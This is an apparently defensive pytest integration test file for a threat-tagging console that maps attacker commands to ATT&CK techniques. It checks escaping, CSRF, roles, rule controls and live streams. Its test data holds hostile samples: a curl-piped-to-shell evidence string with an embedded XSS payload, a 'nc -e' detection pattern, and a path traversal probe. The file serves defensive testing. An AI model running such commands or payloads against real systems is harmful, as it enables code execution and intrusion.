"""The console's pages against a real master, NATS and PostgreSQL, over real HTTP.

The NATS server runs the shipped accounts config; the master runs in-process as the master
role, verifying callers, on its own rules directory (two starter rules and one rejected
file). The console connects as the console role and is wired as the bootstrap wires it (its
feeds on TTP_TAGS/TTP_RULES, a ControlClient), served by uvicorn on a free port in proxy
login mode, so a test picks its user with ``X-Forwarded-User`` (``olga`` is an operator,
everybody else a viewer). The tests play the worker (tag messages on TTP_TAGS, as the worker
role). The last test runs the console on an open server with no master at all.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import re
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import aiohttp
import nats
import pytest
from nats.aio.client import Client
from starlette.applications import Starlette

from harness.bus_messages import tag_data, tagged_message
from harness.console_in_process import serve_console_in_process
from harness.master import install, master_role_settings, running_master
from harness.nats_roles import role_nats
from harness.navigator_layers import check_layer
from harness.waiting import eventually
from ttp_console.pages import close_live_streams
from ttp_console.rule_feed import RuleFeed
from ttp_console.tag_store import TagStore
from ttp_core.attack import load_catalogue
from ttp_core.contract.payloads import TagData
from ttp_runtime.nats import MSG_ID_HEADER, ensure_streams

TIMEOUT_S = 30.0
OPERATOR = "olga"
VIEWER = "victor"
HOSTILE = '<script>alert("x")</script>'
REJECTED_RULE = """\
rule_id: R9000
rule_version: 1
name: broken_rule
applies_to: [command]
match:
  field: command_text
  pattern: 'nc -e'
emits:
  - tactic: TA0002
    technique_id: T99
    confidence: 0.5
"""


@dataclass
class World:
    url: str
    app: Starlette
    store: TagStore
    rules: RuleFeed
    nc: Client
    """The console's own connection."""
    publisher: Client
    """Plays the worker: publishes tag messages."""

    def client(self, user: str) -> aiohttp.ClientSession:
        return aiohttp.ClientSession(
            base_url=self.url,
            cookie_jar=aiohttp.CookieJar(unsafe=True),
            headers={"X-Forwarded-User": user},
        )


@contextlib.asynccontextmanager
async def serve_console(nc: Client, publisher: Client) -> AsyncIterator[World]:
    """The console wired as the bootstrap wires it on ``nc``, served by uvicorn on a free
    port."""
    async with serve_console_in_process(nc, operators=[OPERATOR], control_timeout_s=2.0) as served:
        assert await served.tags.wait_caught_up(TIMEOUT_S)
        yield World(served.url, served.app, served.store, served.rules, nc, publisher)


@contextlib.asynccontextmanager
async def plain_clients(url: str) -> AsyncIterator[tuple[Client, Client]]:
    console_nc = await nats.connect(url, max_reconnect_attempts=-1)
    publisher = await nats.connect(url, max_reconnect_attempts=-1)
    try:
        yield console_nc, publisher
    finally:
        await publisher.close()
        await console_nc.close()


@pytest.fixture
async def world(database_url: str, tmp_path: Path) -> AsyncIterator[World]:
    """A master on two starter rules and a rejected file, and the console beside it, as
    deployed: the shipped accounts config, the master verifying callers, the console
    connected as its own role and the worker role publishing the tags."""
    rules_dir = tmp_path / "rules"
    rules_dir.mkdir()
    install(rules_dir, ["R0019", "R0020"])
    (rules_dir / "R9000.yaml").write_text(REJECTED_RULE)
    with role_nats(tmp_path) as roles:
        async with (
            running_master(master_role_settings(roles, database_url, rules_dir)),
            roles.client("console") as console_nc,
            roles.client("worker") as publisher,
            serve_console(console_nc, publisher) as served,
        ):
            await eventually(lambda: len(served.rules.definitions()) == 2, "the rules")
            yield served
        assert roles.unexpected_violations() == []


def tag(
    technique: str, sub: str | None, rule_id: str = "R0019", confidence: float = 0.85
) -> TagData:
    return tag_data(
        technique,
        sub,
        rule_id=rule_id,
        confidence=confidence,
        evidence={"command_text": f"curl http://x/{HOSTILE} | sh"},
    )


async def publish_tags(
    nc: Client, *tags: TagData, attacker: str = "attacker-7", kind: str = "command"
) -> None:
    subject, message = tagged_message(
        f"evt-{uuid.uuid4().hex[:8]}", tags, kind=kind, attacker_uuid=attacker
    )
    await nc.jetstream().publish(subject, message, headers={MSG_ID_HEADER: str(uuid.uuid4())})


async def get(http: aiohttp.ClientSession, path: str, status: int = 200) -> str:
    async with http.get(path, allow_redirects=False) as response:
        text = await response.text()
        assert response.status == status, (path, response.status, text[:500])
        return text


_TOKEN = re.compile(r'name="csrf-token" content="([^"]+)"')
_STYLE_ATTRIBUTE = re.compile(r"<[^>]+\sstyle\s*=", re.IGNORECASE)


async def csrf_token(http: aiohttp.ClientSession, path: str) -> str:
    match = _TOKEN.search(await get(http, path))
    assert match is not None
    return match.group(1)


async def post(
    http: aiohttp.ClientSession, path: str, form: dict[str, str], token: str
) -> aiohttp.ClientResponse:
    async with http.post(path, data={**form, "csrf_token": token}, allow_redirects=False) as r:
        await r.read()
        return r


# --------------------------------------------------------------------------------------------
# Looking
# --------------------------------------------------------------------------------------------


async def test_the_matrix_shows_observed_and_covered_heat_without_inline_styles(
    world: World,
) -> None:
    await publish_tags(
        world.publisher, tag("T1059", "T1059.004"), tag("T1105", None, confidence=0.9)
    )
    await eventually(lambda: world.store.stats().tags == 2, "the tags")

    async with world.client(VIEWER) as http:
        observed = await get(http, "/?window=1h")
        covered = await get(http, "/?heat=covered")
        broken = await get(http, "/?window=forever&heat=<b>")

    cell = re.compile(r'class="cell heat-(\d)" href="/techniques/T1059"')
    match = cell.search(observed)
    assert match is not None and match.group(1) == "5"  # the busiest technique
    assert re.search(r'class="cell heat-0" href="/techniques/T1110"', observed)
    # R0019 emits T1059.004 at 0.85: its parent's coverage heat is ceil(0.85 * 5) = 5.
    match = cell.search(covered)
    assert match is not None and match.group(1) == "5"
    assert "Command and Scripting Interpreter" in observed
    assert "24h" in broken  # an unknown window falls back to 24 h
    for page in (observed, covered, broken):
        assert _STYLE_ATTRIBUTE.search(page) is None
        assert "<script>" not in page.replace('<script src="', "")


async def test_the_inspector_shows_the_rules_and_the_evidence_of_the_latest_tags(
    world: World,
) -> None:
    await publish_tags(world.publisher, tag("T1059", "T1059.004"))
    await eventually(lambda: world.store.stats().tags == 1, "the tag")

    async with world.client(VIEWER) as http:
        page = await get(http, "/techniques/T1059")
        sub_page = await get(http, "/techniques/t1059.004")
        await get(http, "/techniques/T9999", status=404)
        await get(http, "/techniques/..%2F..%2Fetc", status=404)

    assert 'href="/rules/R0019"' in page  # the rule mapping to it (via its sub-technique)
    assert "attacker-7" in page
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in page  # evidence, escaped
    assert HOSTILE not in page
    assert "command_text" in page
    assert "Unix Shell" in sub_page


async def test_the_rules_page_shows_a_rejected_file_with_its_located_error_and_lines(
    world: World,
) -> None:
    async with world.client(VIEWER) as http:
        rules = await get(http, "/rules")
        rule = await get(http, "/rules/R9000")
        good = await get(http, "/rules/R0019")
        await get(http, "/rules/NOPE", status=404)

    assert 'Rejected <span class="count">1</span>' in rules
    location = re.search(r'<span class="mono location">R9000\.yaml:(\d+):(\d+)</span>', rules)
    assert location is not None
    assert location.group(0) in rule  # the rule page locates it the same way
    line = int(location.group(1))
    assert REJECTED_RULE.splitlines()[line - 1].strip() in rules  # the offending line
    assert 'class="line-error"' in rules
    assert "technique_id: T99" in rule
    assert "download_piped_to_shell" in good
    assert 'Inline tests <span class="count">6</span>' in good
    assert "Audit history" in good and "reloaded" in good
    assert "Change state" not in good  # a viewer sees no controls


async def test_the_attacker_page_lists_techniques_with_counts_and_highest_confidence(
    world: World,
) -> None:
    await publish_tags(world.publisher, tag("T1059", "T1059.004", confidence=0.4))
    await publish_tags(world.publisher, tag("T1059", "T1059.004", confidence=0.8))
    await publish_tags(world.publisher, tag("T1105", None), attacker="someone-else")
    await eventually(lambda: world.store.stats().tags == 3, "the tags")

    async with world.client(VIEWER) as http:
        page = await get(http, "/attackers/attacker-7")
        listing = await get(http, "/attackers")
        unknown = await get(http, "/attackers/never-seen", status=404)

    # The navigation leads to the attackers and marks them, not Live tags, as the place.
    current = re.compile(r'<a href="([^"]*)" aria-current="page">')
    for html in (page, listing, unknown):
        assert current.findall(html) == ["/attackers"]

    row = re.search(
        r'T1059\.004</a>.*?<td class="num">(\d+)</td>\s*<td class="num">([\d.]+)', page, re.S
    )
    assert row is not None
    assert (row.group(1), row.group(2)) == ("2", "0.80")
    assert "T1105" not in page
    assert "someone-else" in listing and "attacker-7" in listing


async def test_the_fleet_page_says_whether_the_fleet_converged(world: World) -> None:
    async with world.client(VIEWER) as http:
        page = await get(http, "/fleet")
        fragment = await get(http, "/fleet/fragment")
    assert 'data-converged="false"' in page
    assert "no live worker reports" in fragment
    assert "<html" not in fragment


async def test_the_layer_downloads_are_navigator_layers(world: World) -> None:
    await publish_tags(world.publisher, tag("T1059", "T1059.004"))
    await eventually(lambda: world.store.stats().tags == 1, "the tag")
    async with world.client(VIEWER) as http:
        async with http.get("/layers/coverage.json") as response:
            assert response.status == 200
            assert "attachment" in response.headers["Content-Disposition"]
            coverage = json.loads(await response.read())
        async with http.get("/layers/observed.json?window=1h") as response:
            assert response.status == 200
            assert "attachment" in response.headers["Content-Disposition"]
            observed = json.loads(await response.read())
    # The same check as the layers ttpctl writes: MITRE's navlayers loads each strictly and
    # writes it back unchanged, and format 4.5's other constraints hold.
    catalogue = load_catalogue()
    check_layer(coverage, catalogue)
    check_layer(observed, catalogue)
    covered = {t["techniqueID"] for t in coverage["techniques"]}
    assert {"T1105", "T1059.004"} <= covered
    assert {t["techniqueID"] for t in observed["techniques"]} >= {"T1059.004"}


# --------------------------------------------------------------------------------------------
# State controls
# --------------------------------------------------------------------------------------------


async def test_an_operator_disables_and_clears_a_rule_acting_for_themselves(
    world: World,
) -> None:
    async with world.client(OPERATOR) as http:
        token = await csrf_token(http, "/rules/R0019")
        response = await post(
            http,
            "/rules/R0019/state",
            {"action": "disable", "reason": "too noisy", "duration": "2h"},
            token,
        )
        assert response.status == 303
        assert response.headers["Location"] == "/rules/R0019"
        page = await get(http, "/rules/R0019")
        assert "R0019 disabled until" in page  # the flash message
        assert "for olga" in page
        assert 'class="countdown"' in page
        await eventually(lambda: not world.rules.in_play("R0019"), "the state on TTP_RULES")
        rules = await get(http, "/rules")
        assert "too noisy" in rules
        assert "<strong>olga</strong>" in rules  # on whose behalf
        # Who set it: the console's identity as the NATS server authenticated it.
        assert "CONSOLE/console" in rules
        assert "R0019" not in {c.rule_id for c in world.rules.coverage()}

        response = await post(http, "/rules/R0019/state/clear", {"reason": "calm"}, token)
        assert response.status == 303
        page = await get(http, "/rules/R0019")
        assert "enabled again" in page
        audit = page[page.index('id="audit"') :]
        assert audit.count("<td>olga</td>") == 2  # both changes, each for olga
        await eventually(lambda: world.rules.in_play("R0019"), "the cleared state")


async def test_state_errors_are_shown_not_swallowed(world: World) -> None:
    async with world.client(OPERATOR) as http:
        token = await csrf_token(http, "/rules/R0019")
        await post(
            http,
            "/rules/R0019/state",
            {"action": "clip", "reason": "x", "confidence_max": "7"},
            token,
        )
        page = await get(http, "/rules/R0019")
        assert "R0019 was not changed: confidence_max" in page
        await post(
            http,
            "/rules/R0019/state",
            {"action": "disable", "reason": "x", "duration": "soon"},
            token,
        )
        assert "not a duration" in await get(http, "/rules/R0019")
        # The master's own refusal: it knows no rule NEVER-SEEN.
        await post(http, "/rules/NEVER-SEEN/state", {"action": "disable", "reason": "x"}, token)
        page = await get(http, "/rules/R0019")
        assert "NEVER-SEEN was not changed:" in page


async def test_a_viewer_sees_no_controls_and_cannot_post_them(world: World) -> None:
    async with world.client(VIEWER) as http:
        token = await csrf_token(http, "/rules/R0019")
        response = await post(
            http, "/rules/R0019/state", {"action": "disable", "reason": "mine now"}, token
        )
        assert response.status == 403
        response = await post(http, "/rules/R0019/state/clear", {}, token)
        assert response.status == 403
        forged = await post(http, "/rules/R0019/state", {"action": "disable", "reason": "x"}, "")
        assert forged.status == 403
    assert world.rules.in_play("R0019")


# --------------------------------------------------------------------------------------------
# Live tags
# --------------------------------------------------------------------------------------------


async def _events(response: aiohttp.ClientResponse, wanted: int) -> list[tuple[str, Any]]:
    events: list[tuple[str, Any]] = []
    name = None
    while len(events) < wanted:
        line = (await asyncio.wait_for(response.content.readline(), TIMEOUT_S)).decode()
        if not line:
            break
        line = line.rstrip("\n")
        if line.startswith("event: "):
            name = line.removeprefix("event: ")
        elif line.startswith("data: ") and name is not None:
            events.append((name, json.loads(line.removeprefix("data: "))))
            name = None
    return events


async def test_live_tags_stream_only_what_the_filter_asks_for_and_close_at_shutdown(
    world: World,
) -> None:
    async with world.client(VIEWER) as http:
        page = await get(http, "/live?technique=T1105&rule=bad.rule")
        assert 'data-stream="/live/stream?technique=T1105' in page
        assert "Ignored (not valid): rule" in page
        async with http.get("/live/stream?technique=T1105") as response:
            assert response.status == 200
            assert response.headers["Content-Type"].startswith("text/event-stream")
            assert (await response.content.readline()).startswith(b"retry:")
            await eventually(lambda: world.store.stats().subscribers == 1, "the subscriber")
            await publish_tags(world.publisher, tag("T1059", "T1059.004"))
            await publish_tags(world.publisher, tag("T1105", None, confidence=0.9), kind="ssh")
            [(name, row)] = await _events(response, 1)
            assert name == "tag"
            assert (row["technique"], row["source_kind"], row["confidence"]) == (
                "T1105",
                "ssh",
                0.9,
            )
            assert ["command_text", f"curl http://x/{HOSTILE} | sh"] in row["evidence"]

            close_live_streams(world.app)
            [(name, _data)] = await _events(response, 1)
            assert name == "bye"
            assert (await response.content.read()).strip() == b""  # the stream ended
    await eventually(lambda: world.store.stats().subscribers == 0, "the subscriber to leave")


@contextlib.asynccontextmanager
async def live_stream(
    world: World, http: aiohttp.ClientSession, query: str
) -> AsyncIterator[aiohttp.ClientResponse]:
    """``/live/stream?{query}``, open and subscribed (so no tag published after is missed)."""
    async with http.get(f"/live/stream?{query}") as response:
        assert response.status == 200, await response.text()
        assert (await response.content.readline()).startswith(b"retry:")
        await eventually(lambda: world.store.stats().subscribers == 1, "the subscriber")
        yield response


async def test_a_live_stream_filtered_by_rule_sends_that_rules_tags_alone(world: World) -> None:
    async with world.client(VIEWER) as http, live_stream(world, http, "rule=R0020") as response:
        # One message carrying both rules' tags, then one of the other rule alone, then
        # one of the wanted rule: the stream keeps the bus's order, so the two rows that
        # arrive first prove nothing of R0019 came before or between them.
        await publish_tags(
            world.publisher,
            tag("T1059", "T1059.004", rule_id="R0019", confidence=0.7),
            tag("T1105", None, rule_id="R0020", confidence=0.8),
        )
        await publish_tags(world.publisher, tag("T1059", "T1059.004", rule_id="R0019"))
        await publish_tags(world.publisher, tag("T1105", None, rule_id="R0020", confidence=0.6))
        rows = await _events(response, 2)
    assert [(name, row["rule_id"], row["confidence"]) for name, row in rows] == [
        ("tag", "R0020", 0.8),
        ("tag", "R0020", 0.6),
    ]
    assert world.store.stats().tags == 4  # the console did receive the R0019 tags


async def test_a_live_stream_filtered_by_source_kind_sends_that_kinds_tags_alone(
    world: World,
) -> None:
    async with world.client(VIEWER) as http, live_stream(world, http, "kind=ssh") as response:
        await publish_tags(world.publisher, tag("T1059", "T1059.004"), kind="command")
        await publish_tags(world.publisher, tag("T1105", None, confidence=0.8), kind="ssh")
        await publish_tags(world.publisher, tag("T1105", None), kind="command")
        await publish_tags(world.publisher, tag("T1059", "T1059.004", confidence=0.6), kind="ssh")
        rows = await _events(response, 2)
    assert [(name, row["source_kind"], row["technique"]) for name, row in rows] == [
        ("tag", "ssh", "T1105"),
        ("tag", "ssh", "T1059.004"),
    ]
    assert world.store.stats().tags == 4  # the console did receive the command tags


# --------------------------------------------------------------------------------------------
# No master
# --------------------------------------------------------------------------------------------


async def _streams_only(url: str) -> None:
    nc = await nats.connect(url)
    try:
        await ensure_streams(nc.jetstream(), 1, 3600.0, -1, 3600.0)
    finally:
        await nc.close()


async def test_without_a_master_the_pages_say_so_and_the_tag_pages_still_work(
    private_nats: Any,
) -> None:
    await _streams_only(private_nats.url)
    async with (
        plain_clients(private_nats.url) as (console_nc, publisher),
        serve_console(console_nc, publisher) as served,
        served.client(OPERATOR) as http,
    ):
        for path in ("/rules", "/rules/R0019", "/fleet", "/fleet/fragment"):
            page = await get(http, path, status=503)
            assert "The master did not answer" in page
            assert "no master is serving" in page
        token = await csrf_token(http, "/")
        await post(http, "/rules/R0019/state", {"action": "disable", "reason": "x"}, token)
        assert "R0019 was not changed: no master is serving" in await get(http, "/")
        await get(http, "/")
        await get(http, "/techniques/T1059")
        await get(http, "/live")
